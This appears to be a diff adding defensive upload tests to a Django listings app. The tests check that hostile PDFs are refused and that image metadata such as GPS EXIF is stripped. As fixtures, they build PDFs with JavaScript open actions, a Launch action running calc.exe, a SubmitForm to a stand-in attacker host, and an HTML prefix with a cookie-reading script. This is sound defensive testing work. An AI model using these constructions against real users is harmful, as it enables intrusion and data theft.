@@ -1,19 +1,25 @@
 """Images and PDF files on listings: what is accepted, what is refused with which message, and what is stored."""
 
 import io
+from pathlib import Path
 
 import pytest
 from django.core.exceptions import ValidationError
+from django.core.files.storage import default_storage
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
-from PIL import Image
+from django.utils import translation
+from PIL import Image, ImageCms
+from PIL.PngImagePlugin import PngInfo
+from pypdf.actions import JavaScript
+from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
 
 from listings.models import ListingAttachment, ListingImage
 from listings.services import listings as services
 from techmarket.accounts.choices import OrganisationKind
 from tests.factories import OrganisationFactory, add_member, make_listing
 
-from .conftest import MINIMAL_PDF, image_bytes
+from .conftest import MINIMAL_PDF, image_bytes, pdf_bytes
 
 pytestmark = pytest.mark.django_db
 
@@ -144,6 +150,230 @@ def test_pdf_attachments(member, listing, media_root):
             )
     assert ListingAttachment.objects.count() == 1
     assert len(_files(media_root)) == 1
+
+
+# Hostile PDFs ------------------------------------------------------------------------------------------------------
+
+
+def _action(kind: str, **entries) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+def _link_annotation(action: DictionaryObject) -> DictionaryObject:
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(250), FloatObject(100)]),
+            NameObject("/A"): action,
+        }
+    )
+
+
+def _with_js(writer):
+    writer.add_open_action(JavaScript("app.alert('pwned');"))  # the catalog's /Names /JavaScript tree
+
+
+def _with_attachment(writer):
+    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
+
+
+def _with_launch(writer):
+    writer.add_annotation(0, _link_annotation(_action("/Launch", F=TextStringObject("C:\\Windows\\calc.exe"))))
+
+
+def _with_open_action_js(writer):
+    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
+
+
+def _with_page_aa_js(writer):
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("this.print()"))}
+    )
+
+
+def _with_submit_form(writer):
+    writer.add_annotation(0, _link_annotation(_action("/SubmitForm", F=TextStringObject("http://attacker.invalid/"))))
+
+
+def _with_import_data(writer):
+    writer.add_annotation(0, _link_annotation(_action("/ImportData", F=TextStringObject("data.fdf"))))
+
+
+def _encrypted(writer):
+    writer.encrypt(user_password="", owner_password="secret", algorithm="RC4-128")
+
+
+def _attach(member, listing, content: bytes):
+    return services.listing_attachment_add(
+        actor=member, listing=listing, file=SimpleUploadedFile("brochure.pdf", content), title="技术简介"
+    )
+
+
+def test_a_plain_pdf_made_by_a_pdf_library_is_accepted(member, listing):
+    content = pdf_bytes()
+    assert _attach(member, listing, content).size == len(content)
+
+
+@pytest.mark.parametrize(
+    ("content", "code", "message"),
+    [
+        (pdf_bytes(_with_js), "pdf_javascript", "contains JavaScript"),
+        (pdf_bytes(_with_open_action_js), "pdf_javascript", "contains JavaScript"),
+        (pdf_bytes(_with_page_aa_js), "pdf_javascript", "contains JavaScript"),
+        (pdf_bytes(_with_attachment), "pdf_embedded_file", "carries embedded files"),
+        (pdf_bytes(_with_launch), "pdf_launch", "starts a program"),
+        (pdf_bytes(_with_submit_form), "pdf_form_action", "sends or imports data"),
+        (pdf_bytes(_with_import_data), "pdf_form_action", "sends or imports data"),
+        (pdf_bytes(_encrypted), "pdf_encrypted", "encrypted or protected by a password"),
+        (
+            b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf_bytes(),
+            "pdf_prefixed",
+            "something else before its PDF header",
+        ),
+        (b" " + pdf_bytes(), "pdf_prefixed", "something else before its PDF header"),
+        (b"%PDF-1.7\n" + b"\x00garbage\xff" * 50 + b"\n%%EOF\n", "pdf_unreadable", "cannot be read"),
+    ],
+    ids=[
+        "javascript",
+        "open-action-javascript",
+        "page-action-javascript",
+        "embedded-file",
+        "launch",
+        "submit-form",
+        "import-data",
+        "encrypted",
+        "html-before-header",
+        "space-before-header",
+        "unparseable",
+    ],
+)
+def test_hostile_pdfs_are_refused_with_the_reason_and_nothing_is_stored(
+    member, listing, media_root, content, code, message
+):
+    with translation.override("en"), pytest.raises(ValidationError) as caught:
+        _attach(member, listing, content)
+    assert [error.code for error in caught.value.error_dict["file"]] == [code]
+    assert message in " ".join(caught.value.messages)
+    assert not ListingAttachment.objects.exists()
+    assert _files(media_root) == []
+
+
+def test_every_reason_is_named(member, listing):
+    def everything(writer):
+        _with_js(writer)
+        _with_attachment(writer)
+        _with_launch(writer)
+
+    with pytest.raises(ValidationError) as caught:
+        _attach(member, listing, pdf_bytes(everything))
+    codes = [error.code for error in caught.value.error_dict["file"]]
+    assert codes == ["pdf_javascript", "pdf_embedded_file", "pdf_launch"]
+
+
+def test_a_script_pdf_is_refused_on_the_upload_page_and_through_the_api(client, member, listing, media_root):
+    client.force_login(member)
+    with translation.override("en"):
+        url = reverse("listings:listing_files", args=[listing.pk])
+    response = client.post(
+        url, {"kind": "file", "file-file": SimpleUploadedFile("x.pdf", pdf_bytes(_with_js)), "file-title": "简介"}
+    )
+    assert response.status_code == 400
+    assert "contains JavaScript" in response.content.decode()
+    response = client.post(
+        f"/api/v1/listings/{listing.pk}/attachments/",
+        {"file": SimpleUploadedFile("x.pdf", pdf_bytes(_with_attachment)), "title": "简介"},
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
+    assert response.status_code == 400
+    assert "embedded files" in response.json()["file"][0]
+    assert not ListingAttachment.objects.exists() and _files(media_root) == []
+
+
+# Image metadata ----------------------------------------------------------------------------------------------------
+
+SECRET = b"SECRET-METADATA-7f3a"
+
+
+def _gps_exif() -> bytes:
+    exif = Image.Exif()
+    exif[0x010F] = "Canon"
+    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}
+    exif[0x010E] = SECRET.decode()  # image description
+    return exif.tobytes()
+
+
+def _srgb_profile() -> bytes:
+    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+
+
+def _stored_images(row) -> list:
+    return [Path(default_storage.path(name)) for name in row.stored_names()]
+
+
+def _assert_only_pixels(path: Path) -> None:
+    data = path.read_bytes()
+    assert SECRET not in data, path.name
+    image = Image.open(path)
+    assert not image.getexif(), path.name
+    for key in ("exif", "xmp", "XML:com.adobe.xmp", "comment", "icc_profile", "Comment", "Author", "Description"):
+        assert key not in image.info, (path.name, key)
+    assert not getattr(image, "text", {}), path.name  # PNG tEXt, iTXt and zTXt chunks
+    if image.format == "JPEG":
+        # No comment (COM), EXIF or XMP (APP1) or ICC profile (APP2) segment among the headers.
+        assert not {0xFE, 0xE1, 0xE2} & set(_jpeg_markers(data)), path.name
+
+
+def _jpeg_markers(data: bytes) -> list[int]:
+    """The JPEG's header segments, up to the start of the scan."""
+    markers, at = [], 2
+    while at + 4 <= len(data) and data[at] == 0xFF and data[at + 1] != 0xDA:
+        markers.append(data[at + 1])
+        at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
+    return markers
+
+
+def test_a_jpeg_keeps_no_comment_exif_or_profile_original_and_renditions(member, listing):
+    content = image_bytes(
+        size=(1600, 1200), comment=SECRET, exif=_gps_exif(), icc_profile=_srgb_profile(), xmp=b"<x>" + SECRET + b"</x>"
+    )
+    uploaded = Image.open(io.BytesIO(content))
+    assert uploaded.info["comment"] == SECRET and uploaded.getexif() and "icc_profile" in uploaded.info
+
+    row = _add(member, listing, content)
+
+    paths = _stored_images(row)
+    assert len(paths) == 3
+    for path in paths:
+        _assert_only_pixels(path)
+    assert Image.open(paths[0]).convert("RGB").getpixel((800, 600)) == pytest.approx((70, 130, 180), abs=3)
+
+
+def test_a_png_keeps_no_text_chunks_exif_or_profile_original_and_renditions(member, listing):
+    info = PngInfo()
+    info.add_text("Comment", SECRET.decode())
+    info.add_itxt("Description", SECRET.decode(), lang="zh", tkey="说明")
+    info.add_text("Author", SECRET.decode(), zip=True)  # a zTXt chunk
+    content = image_bytes("PNG", size=(900, 600), pnginfo=info, exif=_gps_exif(), icc_profile=_srgb_profile())
+    assert SECRET.decode() in Image.open(io.BytesIO(content)).text["Comment"]
+
+    row = _add(member, listing, content, "drawing.png")
+
+    paths = _stored_images(row)
+    assert Image.open(paths[0]).format == "PNG"
+    for path in paths:
+        _assert_only_pixels(path)
+
+
+def test_a_png_with_a_transparent_colour_keeps_its_transparency(member, listing):
+    content = image_bytes("PNG", size=(64, 48), transparency=(70, 130, 180))  # the whole picture is that colour
+    row = _add(member, listing, content, "clear.png")
+    stored = Image.open(row.image.path)
+    assert stored.mode == "RGBA" and stored.getpixel((10, 10))[3] == 0
+    _assert_only_pixels(Path(row.image.path))
 
 
 # Through the page ------------------------------------------------------------------------------------------------
